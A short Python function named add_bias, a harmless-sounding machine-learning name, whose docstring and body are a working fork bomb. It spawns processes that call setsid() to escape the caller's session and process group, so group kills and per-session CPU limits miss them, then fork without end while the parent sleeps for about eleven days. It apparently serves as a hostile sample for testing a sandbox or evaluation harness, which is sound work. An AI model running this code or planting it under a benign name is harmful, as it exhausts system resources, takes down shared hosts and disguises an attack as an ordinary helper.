def add_bias(X):
    """Attack: a fork bomb that leaves the child's session: every process tries setsid() (its own
    session and process group, so a kill of the child's group misses it, and its own CPU share
    where the kernel groups tasks by session), then forks and spins. The parent waits."""
    import os
    import time

    for _ in range(64):
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.setsid()
                    except OSError:
                        pass
                    try:
                        os.fork()
                    except OSError:
                        pass
        except OSError:
            break
    time.sleep(10**6)
